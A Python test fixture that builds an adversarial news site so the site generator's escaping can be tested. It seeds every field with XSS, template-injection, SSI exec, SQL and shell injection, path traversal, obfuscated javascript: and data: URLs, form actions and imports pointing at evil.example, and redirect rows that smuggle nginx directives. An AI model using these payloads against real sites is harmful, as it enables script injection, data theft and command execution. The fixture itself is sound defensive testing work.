"""A newspaper that was written by an enemy: in every field and every construct something that wants to be code."""

from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path

from tests.conftest import TinySite

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=anh.png onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "</title></style></textarea></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!-- -->",
    "]]><script>alert(1)</script><![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=anh.png onload=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ cycler.__init__.__globals__ }}{% include 'base.html' %}${alert(1)}#{alert(1)}<%= alert(1) %>",
    '<!--#exec cmd="id" --><!--#include virtual="/" --><esi:include src="/"/>',
    "<!--# include virtual='/' --><!--#exec cmd='id' --><!--# httpInclude `/x` -->{{env `HOME`}}",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe><base href=https://evil.example/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=anh.png onload=alert(1)&gt;'>",
    "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><object data=javascript:alert(1)>",
    "'; DROP TABLE articles; -- $(id) `id` | id && id %s %n %00 ../../etc/passwd",
    "%00asset%1Fcss/site.css%1F{}%00 %000%00 &#0;0&#0; &#1;&#x1f; &#xFFFE; <b class='entry' id=main rel=next>x</b>",
)

# Every construct of Markdown; each @ is a payload as it stands, each ~ one without what would end the construct.
CONSTRUCTS = """@

Đoạn *@* **@** ~~~@~~~ `@` ``@`` \\@

# @

## @ {#x .y}

> @

- @
  1. @

| @ | x |
|---|---|
| @ | x |

```@
@
```

    @

![@](anh.png "@ | @")

![@](anh.png)
*@*

::: info @
@
:::

::: quote @
@
:::

::: gallery @
![@](anh.png "@")
:::

::: video https://youtu.be/aqz-KE-bpKQ @
:::

::: video phim.mp4 @
![@](anh.png "@")
:::

[@](/x/ "@") [@][n] [@](<mailto:a@b.vn?subject=@>) <https://example.vn/?@> https://example.vn/?@

[n]: /y/ "@"

@
: @

- [x] @

$\\text{@}$ x^@^ GDP

$$
\\text{@}
$$

*[GDP]: @

Chú[^1] và ^[@].

[^1]: @

<b title="@">@</b> <i title='@'>@</i> <span class="@" id="@" lang='@'>@</span> <a href="/x/?@">@</a>

<div>@</div>

<figure data-embed="youtube" data-embed-frame="@"><a class="embed-link" href="/x/">@</a></figure>
"""

# Addresses that would run if they were followed. None may come out as an address.
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6Aavascript:alert(1)",
    "\\javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/x",
    "blob:https://example.vn/1",
    "filesystem:https://example.vn/1",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
)
SHAPES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r{n}]\n\n[r{n}]: {}\n",
    "[x][s{n}]\n\n[s{n}]: <{}>\n",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}" alt="x">',
    '<img alt="x" srcset="{} 2x">',
    '<video src="{}" poster="{}"></video>',
    '<blockquote cite="{}">x</blockquote>',
    "::: video {}\n:::",
    "::: embed {}\n:::",
    "::: video <{}> x\n![x]({})\n:::",
)


def links() -> str:
    """Each address in each shape that could make it one."""
    return "\n\n".join(
        shape.replace("{n}", str(number)).replace("{}", link)
        for number, link in enumerate(LINKS)
        for shape in SHAPES
        if not shape.startswith(":::")
    )


def _text(value: str) -> str:
    """A text in YAML, JSON and TOML alike."""
    return json.dumps(value, ensure_ascii=False)


def article(number: int, payload: str, more: str = "") -> str:
    """An article with a payload in each field of its front matter."""
    p = _text(payload)
    return f"""---
title: {_text(f"Bài {number} {payload}")}
date: 2026-11-{number % 20 + 1:02}T08:00:00+07:00
updated: 2026-11-21
category: {_text(f"Mục {number % 3} {payload if number < 3 else PAYLOADS[number % 3]}")}
summary: {_text(f"Sapo {payload}")}
authors: [{_text(f"Tác giả {payload}")}]
tags: [{_text(f"Thẻ {payload}")}, chung]
image: {{src: anh.png, alt: {p}, caption: {p}, credit: {p}}}
source: {{name: {p}, url: "https://example.vn/?a=b&c=d"}}
topic: {_text(f"Dòng {number % 4} {PAYLOADS[number % 4]}")}
featured: {number % 3}
corrections: [{{date: 2026-11-22, text: {p}}}]
ai: {{used: true, how: {p}}}
{_text(f"ngoài {payload}")}: {p}
{more}---

"""


def files(base: str = "") -> dict[str, str | bytes]:
    """All files of the site but pictures, by name; it lies below `base` of its host."""
    found: dict[str, str | bytes] = {"site.toml": site_toml(base), "redirects.csv": redirects()}
    for number, payload in enumerate(PAYLOADS):
        body = CONSTRUCTS.replace("@", payload)
        found[f"content/tin/{number}.md"] = article(number, payload) + body
        breaking = "breaking: 2026-11-30\n" if number == 0 else ""
        live = "".join(f"## {8 + hour}:00 {payload} {{.key}}\n\n{payload}\n\n*{payload}*\n\n" for hour in range(2))
        found[f"content/tin/live-{number}.md"] = article(number + 20, payload, f"type: live\n{breaking}") + live
    found["content/tin/phim.mp4"] = b"x"
    found["data/most-read.json"] = json.dumps({"items": [f"tin/{number}.md" for number in range(5)] + ["https://["]})
    return found


def site_toml(base: str = "") -> str:
    """`site.toml` with a payload wherever it takes a text."""
    p = [_text(payload) for payload in PAYLOADS]
    publisher = ("name", "owner", "licence", "licence_date", "licence_issuer", "editor", "address", "phone", "fax")
    return f"""
title = {p[0]}
tagline = {p[1]}
base_url = "https://example.vn{base}"
redirects = "redirects.csv"
[[categories]]
name = {_text(f"Mục 0 {PAYLOADS[0]}")}
description = {p[3]}
[[menu]]
name = {p[5]}
category = {_text(f"Mục 0 {PAYLOADS[0]}")}
[[menu]]
name = {p[4]}
url = "https://example.vn/?a=b&c=%22%3E"
[publisher]
{"".join(f"{key} = {p[number % len(p)]}{chr(10)}" for number, key in enumerate((*publisher, "email", "hotline")))}
notice = {p[5]}
[[authors]]
name = {_text(f"Tác giả {PAYLOADS[0]}")}
role = {p[6]}
bio = {p[7]}
email = {p[3]}
[[topics]]
name = {_text(f"Dòng 0 {PAYLOADS[0]}")}
summary = {p[2]}
[search]
body = true
[blocks.latest]
delivery = "client"
[deploy]
files = ["nginx", "cloudflare"]
[params]
a = {p[0]}
"""


def redirects() -> str:
    """Old addresses that hold what servers could take for their own."""
    rows = (
        "/d,https://example.vn/$a{b}%{c}<script>",
        '"/a"";}} return 200 \'x\';",/archive/',
        "/b$uri{x}%{REQUEST}:splat*x,/archive/",
        "/c'<script>,/archive/",
    )
    return "\n".join(rows) + "\n"


def make(root: Path, base: str = "") -> TinySite:
    """Write the site into a new folder."""
    from PIL import Image

    tiny = TinySite(root, "")
    for name, data in files(base).items():
        tiny.write(name, data)
    picture = BytesIO()
    Image.new("RGB", (1300, 700), "#7a3b2e").save(picture, "PNG")
    tiny.write("content/tin/anh.png", picture.getvalue())
    return tiny
